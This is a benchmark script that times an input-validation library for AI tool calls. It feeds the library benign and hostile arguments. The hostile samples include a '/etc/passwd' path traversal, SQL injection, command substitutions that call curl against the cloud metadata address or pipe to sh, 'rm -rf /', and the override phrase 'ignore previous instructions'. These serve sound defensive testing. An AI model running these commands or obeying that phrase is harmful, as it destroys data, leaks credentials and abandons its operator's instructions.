/**
 * Benchmark of the input-validation gates (prints figures; no assertions):
 * - µs per typical call: a small argument object validated against a cached schema and scanned;
 * - µs per 100 KB hostile string, one shape per detector family (the linear-time claim, measured);
 * - µs per tool-definition scan, result scan and tool digest.
 *
 *   npm run bench:gates [-- --iterations N]      (default N = 20,000 for small calls)
 */
import { availableParallelism, loadavg } from 'node:os';
import {
  evaluateArguments,
  jsonDigest,
  scanResult,
  scanToolDefinition,
  toolDigest,
  type ToolDefinition,
} from '../src/index';

function arg(name: string, fallback: number): number {
  const i = process.argv.indexOf(name);
  return i >= 0 ? Number(process.argv[i + 1]) : fallback;
}

const ITERATIONS = arg('--iterations', 20_000);

interface Stats {
  mean: number;
  p50: number;
  p99: number;
}

function measure(fn: () => unknown, iterations: number): Stats {
  const warmup = Math.max(10, Math.floor(iterations / 10));
  for (let i = 0; i < warmup; i += 1) fn();
  const samples = new Float64Array(iterations);
  for (let i = 0; i < iterations; i += 1) {
    const start = process.hrtime.bigint();
    fn();
    samples[i] = Number(process.hrtime.bigint() - start) / 1_000;
  }
  const sorted = Array.from(samples).sort((a, b) => a - b);
  const mean = sorted.reduce((s, x) => s + x, 0) / sorted.length;
  return {
    mean,
    p50: sorted[Math.floor(sorted.length * 0.5)],
    p99: sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * 0.99))],
  };
}

function report(label: string, stats: Stats): void {
  const f = (x: number): string => x.toFixed(1).padStart(9);
  console.log(
    `${label.padEnd(46)} mean ${f(stats.mean)} µs   p50 ${f(stats.p50)} µs   p99 ${f(stats.p99)} µs`,
  );
}

const fsSchema = {
  type: 'object',
  properties: {
    path: { type: 'string', maxLength: 4096, description: 'File to read' },
    mode: { enum: ['read', 'write'] },
    recursive: { type: 'boolean' },
    note: { type: 'string' },
  },
  required: ['path'],
  additionalProperties: false,
};
const fsDigest = jsonDigest(fsSchema);
const typical = {
  path: 'docs/guides/getting-started.md',
  mode: 'read',
  recursive: false,
  note: 'Summarise the install section.',
};
const hostileSmall = {
  path: '../../etc/passwd',
  mode: 'read',
  note: "'; DROP TABLE users; -- $(curl http://169.254.169.254/)",
};

console.log(
  `gates bench — node ${process.version}, ${availableParallelism()} CPUs, load ${loadavg()[0].toFixed(2)}`,
);
console.log(`\nsmall calls (${ITERATIONS} iterations each, validator cached by schema digest)`);
report(
  'evaluateArguments, typical benign call',
  measure(
    () => evaluateArguments({ schema: fsSchema, schemaDigest: fsDigest, arguments: typical }),
    ITERATIONS,
  ),
);
report(
  'evaluateArguments, small hostile call',
  measure(
    () => evaluateArguments({ schema: fsSchema, schemaDigest: fsDigest, arguments: hostileSmall }),
    ITERATIONS,
  ),
);
report(
  'evaluateArguments, digest computed per call',
  measure(() => evaluateArguments({ schema: fsSchema, arguments: typical }), ITERATIONS),
);

const definition: ToolDefinition = {
  name: 'read_file',
  description: 'Read the complete contents of a file from the file system. Handles various text encodings.',
  inputSchema: fsSchema,
  annotations: { readOnlyHint: true },
};
report(
  'toolDigest',
  measure(() => toolDigest(definition), ITERATIONS),
);
report(
  'scanToolDefinition (20 known tools)',
  measure(
    () =>
      scanToolDefinition(definition, { knownToolNames: Array.from({ length: 20 }, (_, i) => `tool_${i}`) }),
    ITERATIONS,
  ),
);
const result = {
  content: [{ type: 'text', text: 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(36) }],
};
report(
  'scanResult (2 KB of text)',
  measure(() => scanResult(result), ITERATIONS),
);

const SIZE = 100 * 1024;
const fill = (unit: string): string => unit.repeat(Math.ceil(SIZE / unit.length)).slice(0, SIZE);
let seed = 42;
const random = (): number => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
const printable = Array.from({ length: SIZE }, () =>
  String.fromCharCode(32 + Math.floor(random() * 95)),
).join('');
const hostile: Array<[string, string, string]> = [
  ['a × 100 KB', 'note', fill('a')],
  ['random printable ASCII', 'note', printable],
  ['"../" repeated (path field)', 'path', fill('../')],
  ['"%2e%2e%2f" repeated (path field)', 'path', fill('%2e%2e%2f')],
  ['"((((" (command field)', 'command', fill('(')],
  ['"; rm -rf / " repeated (command field)', 'command', fill('; rm -rf / ')],
  ['"$(curl x|sh)" repeated (text)', 'note', fill('$(curl x|sh)')],
  ['"\' OR 1=1 -- " repeated', 'id', fill("' OR 1=1 -- ")],
  ['"http://127.0.0.1/ " repeated (url field)', 'url', fill('http://127.0.0.1/ ')],
  ['"ignore previous instructions " repeated', 'note', fill('ignore previous instructions ')],
  ['"api_key=" repeated', 'note', fill('api_key=')],
  ['zero-width joiners', 'note', fill('a\u200d')],
  ['Unicode tags', 'note', fill('\u{E0041}')],
];
const HOSTILE_ITERATIONS = Math.max(20, Math.floor(ITERATIONS / 200));
console.log(`\n100 KB hostile strings (${HOSTILE_ITERATIONS} iterations each, every detector runs)`);
for (const [label, field, value] of hostile) {
  report(
    label,
    measure(
      () =>
        evaluateArguments({
          schema: { type: 'object' },
          schemaDigest: 'bench-open',
          arguments: { [field]: value },
        }),
      HOSTILE_ITERATIONS,
    ),
  );
}
